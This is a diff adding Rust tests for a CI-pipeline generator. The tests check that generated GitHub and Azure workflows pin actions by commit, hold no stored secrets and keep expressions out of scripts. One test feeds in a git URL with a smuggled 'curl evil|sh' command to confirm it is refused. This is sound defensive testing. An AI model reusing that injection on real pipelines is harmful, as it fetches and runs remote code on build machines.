@@ -248,3 +248,115 @@ fn release_records_what_the_pipeline_built_and_refuses_what_it_cannot_pin() {
         assert!(text(&out).1.contains(why), "{bad:?}: {:?}", text(&out));
     }
 }
+
+/// The generated CI files of the reference spec.
+fn pipelines() -> Vec<(String, String)> {
+    let spec = std::fs::read_to_string(crate::support::root().join("environments/serenity/inception.kdl")).unwrap();
+    let compiled = compile("serenity", &spec);
+    compiled
+        .outputs
+        .into_iter()
+        .filter(|(p, _)| {
+            p.starts_with(".github/workflows/") || p.starts_with(".azure-pipelines/") || p == "azure-pipelines.yml"
+        })
+        .collect()
+}
+
+#[test]
+fn every_action_is_pinned_by_commit_and_no_credential_is_stored() {
+    let files = pipelines();
+    let names: Vec<&str> = files.iter().map(|(p, _)| p.as_str()).collect();
+    assert_eq!(
+        names,
+        [
+            ".azure-pipelines/build-image.yml",
+            ".azure-pipelines/install-inception.yml",
+            ".github/workflows/inception-main.yml",
+            ".github/workflows/inception-pull-request.yml",
+            ".github/workflows/inception-release-pr.yml",
+            "azure-pipelines.yml",
+        ]
+    );
+    let mut uses = 0;
+    for (path, text) in &files {
+        for line in text.lines() {
+            if let Some(action) = line.trim().trim_start_matches("- ").strip_prefix("uses: ") {
+                uses += 1;
+                let (_, commit) = action.split_once('@').unwrap_or_else(|| panic!("{path}: `{action}` has no ref"));
+                assert!(inception::model::release::is_commit(commit), "{path}: `{action}` is not pinned by commit");
+            }
+            assert!(!line.contains("secrets."), "{path}: a stored secret: {line}");
+            assert!(!line.contains("ubuntu-latest"), "{path}: a moving runner image: {line}");
+        }
+    }
+    assert!(uses >= 10, "the workflows use the pinned actions ({uses} uses)");
+    let main = &files.iter().find(|(p, _)| p.ends_with("inception-main.yml")).unwrap().1;
+    assert!(main.contains("id-token: write"), "OpenID Connect to Azure: {main}");
+    assert!(main.contains("client-id: ${{ vars.AZURE_CLIENT_ID }}"), "{main}");
+    let ado = &files.iter().find(|(p, _)| p == "azure-pipelines.yml").unwrap().1;
+    assert!(ado.contains("azureSubscription: serenity-acr"), "the workload identity service connection: {ado}");
+}
+
+#[test]
+fn pull_requests_build_without_pushing_and_main_pushes_and_releases_into_the_first_cloud_tier() {
+    let files = pipelines();
+    let get = |name: &str| files.iter().find(|(p, _)| p.ends_with(name)).map(|(_, t)| t.as_str()).unwrap();
+    let pr = get("inception-pull-request.yml");
+    for command in ["inception check", "inception lint --strict"] {
+        assert!(pr.contains(&format!("run: |\n        {command}\n")), "{command}: {pr}");
+    }
+    assert!(pr.contains("push: false") && !pr.contains("push: true"), "{pr}");
+    assert!(pr.contains("- image: devcontainer\n"), "the dev container image is built too: {pr}");
+    let main = get("inception-main.yml");
+    for service in ["marketdata", "pricing", "risk", "api", "devcontainer"] {
+        assert!(main.contains(&format!("id: image-{service}\n")), "{service}: {main}");
+    }
+    assert!(main.contains("inception release dev --revision \"$COMMIT\""), "{main}");
+    assert!(main.contains("--image \"pricing=$DIGEST_PRICING\""), "{main}");
+    assert!(main.contains("gh pr create --base main"), "{main}");
+    // No expression is expanded inside a GitHub script: values reach scripts through env.
+    let mut scripts = 0;
+    for (path, text) in files.iter().filter(|(p, _)| p.starts_with(".github/")) {
+        let mut script_indent: Option<usize> = None;
+        for line in text.lines() {
+            let indent = line.len() - line.trim_start().len();
+            if script_indent.is_some_and(|key| indent <= key && !line.trim().is_empty()) {
+                script_indent = None;
+            }
+            if script_indent.is_some() {
+                scripts += 1;
+                assert!(!line.contains("${{"), "{path}: an expression inside a script: {line}");
+            }
+            if line.trim_start().starts_with("run: |") {
+                script_indent = Some(indent);
+            }
+        }
+    }
+    assert!(scripts > 20, "the scripts were read ({scripts} lines)");
+    let ado = get("azure-pipelines.yml");
+    assert!(ado.contains("condition: eq(variables['Build.Reason'], 'PullRequest')"), "{ado}");
+    assert!(ado.contains("push: \"false\"") && ado.contains("push: \"true\""), "{ado}");
+    assert!(ado.contains("inception release dev"), "{ado}");
+}
+
+#[test]
+fn a_pipeline_value_that_would_land_unquoted_in_a_script_is_refused() {
+    let spec = std::fs::read_to_string(crate::support::root().join("environments/serenity/inception.kdl")).unwrap();
+    for (from, to, expected) in [
+        (
+            "inception \"https://github.com/cloudwall/inception.git\"",
+            "inception \"https://github.com/x/y.git;curl evil|sh\"",
+            "is not an https:// git URL",
+        ),
+        ("commit=\"5d1e0f4a7c3b2a19e8d7c6b5a4f3e2d1c0b9a8f7\"", "commit=\"main\"", "is not a full commit id"),
+        ("service-connection serenity-acr", "service-connection \"serenity acr\"", "is not letters, digits"),
+        ("    service-connection serenity-acr\n", "", "`pipeline` has no `service-connection`"),
+        ("registry \"cloudwall.azurecr.io\"", "registry \"ghcr.io\"", "push to an Azure Container Registry"),
+    ] {
+        assert!(spec.contains(from), "{from}");
+        let bad = spec.replacen(from, to, 1);
+        let error = pipeline::compile_source(&SourceFile::new("bad", bad), "inception.kdl").err();
+        let report = error.map(|e| format!("{:?}", miette::Report::new(e))).unwrap_or_default();
+        assert!(report.contains(expected), "{to}: {report}");
+    }
+}
